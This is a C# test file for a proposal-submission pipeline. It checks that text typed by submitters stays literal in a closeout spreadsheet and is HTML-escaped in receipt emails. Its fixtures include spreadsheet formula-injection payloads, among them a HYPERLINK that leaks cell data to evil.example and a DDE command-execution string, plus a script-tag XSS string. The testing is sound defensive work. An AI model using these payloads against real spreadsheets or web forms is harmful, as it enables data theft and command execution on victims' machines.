using Proposals.Pipeline.Deadlines;
using Proposals.Pipeline.Classify;
using Proposals.Domain.Calls;
using Proposals.Domain.Submissions;
using Proposals.Pipeline.Email;
using Proposals.Pipeline.Intake;
using Proposals.Pipeline.Closeout.Writers;
using Proposals.Pipeline.Submissions;
using Proposals.Testing;

namespace Proposals.Pipeline.Tests.Exports;

/// <summary>What submitters type reaches staff's spreadsheet and inboxes as text, never as formulas or markup.</summary>
public sealed class HostileTextInExportsTests
{
    public static TheoryData<string> FormulaPayloads => new()
    {
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")",
        "+1",
        "-1",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "=cmd|' /C calc'!A0",
        "_x000D_ is text, not a carriage return",
    };

    [Theory]
    [MemberData(nameof(FormulaPayloads))]
    public void Formula_payloads_stay_literal_text_in_the_closeout_workbook(string payload)
    {
        SubmissionRecord[] records = [Record(payload), Record(payload, SubmissionStatus.Rejected, "fedcba9876543210fedcba9876543210")];
        LateAttempt[] late = [new() { EnterpriseName = payload, TaxCode = "0100233488", TaskName = payload, AttemptedAtUtc = DateTimeOffset.UtcNow }];
        using var xlsx = new MemoryStream();
        CloseoutWorkbook.Write(xlsx, Call(), CloseoutSummary.Of(Call(), records, late.Length), () => records, late, DateTimeOffset.UtcNow);

        xlsx.Position = 0;
        WorkbookText.HasFormulas(xlsx).ShouldBeFalse();
        xlsx.Position = 0;
        var row = WorkbookText.Sheet(xlsx, CloseoutWorkbook.ListSheet)[1];
        row.ShouldContain(payload, "enterprise name and task name as typed");
        row.Count(cell => cell == payload).ShouldBe(2);
        xlsx.Position = 0;
        var excluded = WorkbookText.Sheet(xlsx, CloseoutWorkbook.ExcludedSheet);
        excluded.Count.ShouldBe(3, "the header, the rejected one, the late one");
        excluded.Skip(1).ShouldAllBe(r => r.Count(cell => cell == payload) == 2);
    }

    [Fact]
    public void Markup_in_the_enterprise_name_is_escaped_in_the_receipt_emails_HTML()
    {
        var record = Record("<script>alert('x')</script> & Công ty \"Thép\"");
        var email = ReceiptEmail.Compose(Call(), record, "http://127.0.0.1:7071/status.html?id=1&token=a");

        email.Html.ShouldNotContain("<script>");
        email.Html.ShouldContain("&lt;script&gt;");
        email.Html.ShouldContain("&amp; C");
        email.PlainText.ShouldContain("Kính gửi <script>alert('x')</script> & Công ty \"Thép\",");
    }

    private static CallDefinition Call() => new()
    {
        Id = "t-exports",
        Title = "Đợt thử nghiệm",
        Organiser = "Chi cục Tiêu chuẩn Đo lường Chất lượng Hải Phòng",
        ProgrammeYear = 2024,
        Deadline = new DateTimeOffset(2024, 4, 22, 0, 0, 0, TimeSpan.FromHours(7)),
        FormVersion = "A1-ĐXNV",
        ReceiptPrefix = "TEX",
        PriorityAreas = [new PriorityArea { Number = 2, Title = "Nội dung ưu tiên 2" }],
    };

    private static SubmissionRecord Record(
        string hostileText, string status = SubmissionStatus.Classified, string submissionId = "0123456789abcdef0123456789abcdef") => new()
    {
        PartitionKey = "t-exports",
        RowKey = submissionId,
        ReceiptNumber = "TEX-000001",
        Status = status,
        ClassifiedAtUtc = new DateTimeOffset(2024, 4, 1, 3, 1, 0, TimeSpan.Zero),
        ReceivedAtUtc = new DateTimeOffset(2024, 4, 1, 3, 0, 0, TimeSpan.Zero),
        EnterpriseName = hostileText,
        TaxCode = "0100233488",
        Province = "Thành phố Hải Phòng",
        ContactEmail = "binh.tran@cokhi-hp.vn",
        TaskName = hostileText,
        TaskType = "research",
        PriorityArea = 2,
    };
}
